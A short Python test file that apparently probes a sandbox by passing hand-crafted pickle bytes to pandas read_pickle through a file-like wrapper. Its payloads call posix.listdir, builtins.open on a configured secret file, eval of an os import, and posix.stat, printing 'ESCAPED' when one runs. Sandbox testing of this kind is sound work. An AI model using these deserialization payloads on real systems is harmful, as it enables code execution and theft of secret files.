# expect: done
# idea: unpickle bytes that call posix functions, through pd.read_pickle and an object with a read method
# source: sandbox walks of HackTricks
import pandas as pd


class Paper:
    def __init__(self, data):
        self.data, self.place = data, 0

    def read(self, size=-1):
        end = len(self.data) if size is None or size < 0 else self.place + size
        piece, self.place = self.data[self.place : end], min(end, len(self.data))
        return piece

    def readline(self, size=-1):
        return self.read(self.data.index(b"\n", self.place) + 1 - self.place)

    def seek(self, offset, whence=0):
        self.place = (0, self.place, len(self.data))[whence] + offset
        return self.place

    def tell(self):
        return self.place

    def __iter__(self):
        return iter(())


def tick(ctx):
    folder, path = ctx.config["folder"].encode(), ctx.config["secret_file"].encode()
    for payload in (
        b"cposix\nlistdir\n(V" + folder + b"\ntR.",
        b"cbuiltins\nopen\n(V" + path + b"\ntR.",
        b"cbuiltins\neval\n(V__import__('os').scandir('/')\ntR.",
        b"cposix\nstat\n(V" + path + b"\ntR.",
    ):
        try:
            print("ESCAPED:", pd.read_pickle(Paper(payload)))
        except Exception as error:
            print("refused:", type(error).__name__, error)
